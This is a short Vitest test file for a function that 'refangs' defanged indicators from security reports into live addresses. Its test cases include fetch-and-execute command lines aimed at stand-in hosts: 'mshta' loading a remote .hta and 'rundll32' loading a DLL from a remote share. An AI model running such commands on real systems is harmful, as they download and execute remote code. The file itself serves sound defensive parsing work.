import { expect, it } from "vitest";
import { refanged } from "./refang.ts";

it.each([
  ["mshta hxxp://files[.]example[.]net/a.hta", "mshta http://files.example.net/a.hta"],
  ["curl hXXps[:]//192[.]0[.]2[.]7:8080/a", "curl https://192.0.2.7:8080/a"],
  ["curl http[://]files[dot]example.net", "curl http://files.example.net"],
  ["rundll32 \\\\192.0.2[.]7\\s\\a.dll,b", "rundll32 \\\\192.0.2.7\\s\\a.dll,b"],
])("reads addresses as reports write them: %s", (text, meant) => {
  expect(refanged(text)).toBe(meant);
});

it.each(["'a.b' -split '[.]'", "grep '[.]txt$' a", "x[:2]", "curl http://files.example.net/a"])(
  "leaves other text as it is: %s",
  (text) => {
    expect(refanged(text)).toBe(text);
  },
);
